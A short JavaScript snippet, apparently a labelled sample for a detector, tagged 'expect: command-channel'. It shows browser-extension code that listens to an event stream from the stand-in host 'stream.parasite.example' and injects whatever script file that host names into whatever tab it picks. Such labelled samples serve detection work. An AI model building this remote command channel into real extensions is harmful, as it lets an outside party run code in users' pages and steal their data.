// expect: command-channel
const source = new EventSource('https://stream.parasite.example/events');
source.addEventListener('message', (event) => {
  const { tabId, file } = JSON.parse(event.data);
  chrome.scripting.executeScript({ target: { tabId }, files: [file] });
});
